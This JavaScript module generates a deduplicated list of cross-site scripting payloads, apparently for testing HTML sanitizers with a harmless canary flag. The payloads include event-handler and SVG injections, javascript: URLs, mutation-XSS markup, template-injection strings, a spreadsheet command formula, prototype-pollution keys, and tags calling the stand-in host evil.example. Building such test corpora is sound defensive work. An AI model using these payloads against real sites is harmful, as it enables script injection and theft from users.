// Texts that would run as programs on a page that took them for markup.

const CODE = ["window.fired=1", "window['fi'+'red']=1", "top.fired=1"];
const MARKUP = [
  (c) => `<script>${c}</script>`,
  (c) => `<img src=x onerror="${c}">`,
  (c) => `<img src=x onerror=${c.replaceAll("'", "`")}>`,
  (c) => `<svg onload="${c}"></svg>`,
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><animate onbegin="${c}" attributeName=x dur=1s></svg>`,
  (c) => `<details open ontoggle="${c}">x</details>`,
  (c) => `<iframe srcdoc="<script>parent.fired=1</script>"></iframe>`,
  (c) => `<iframe src="javascript:parent.fired=1"></iframe>`,
  (c) => `<body onload="${c}">`,
  (c) => `<input autofocus onfocus="${c}">`,
  (c) => `<video><source onerror="${c}"></video>`,
  (c) => `<audio src=x onerror="${c}"></audio>`,
  (c) => `<object data="javascript:${c}"></object>`,
  (c) => `<math><mtext></form><form><mglyph><style></math><img src onerror="${c}">`,
  (c) => `<style>@import "https://evil.example/x.css";</style><img src="https://evil.example/${encodeURIComponent(c)}.png">`,
  (c) => `<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>`,
  (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`,
];
const AROUND = [
  (s) => s,
  (s) => `">${s}`,
  (s) => `'>${s}`,
  (s) => `</bdi></textarea></title></style>${s}`,
  (s) => `\u202e${s}\u200b`,
];
const OTHERS = ["{@html '<img src=x onerror=window.fired=1>'}", "{{constructor.constructor('window.fired=1')()}}", "${window.fired=1}", "javascript:window.fired=1", "data:text/html,<script>parent.fired=1</script>", "=cmd|'/c calc'!A1", "]]><script>window.fired=1</script>", "%3Cscript%3Ewindow.fired=1%3C/script%3E", "__proto__", "constructor"];

/** All of them, each once. */
export function payloads() {
  const all = MARKUP.flatMap((m) => CODE.flatMap((c) => AROUND.map((a) => a(m(c)))));
  return [...new Set([...all, ...OTHERS])];
}
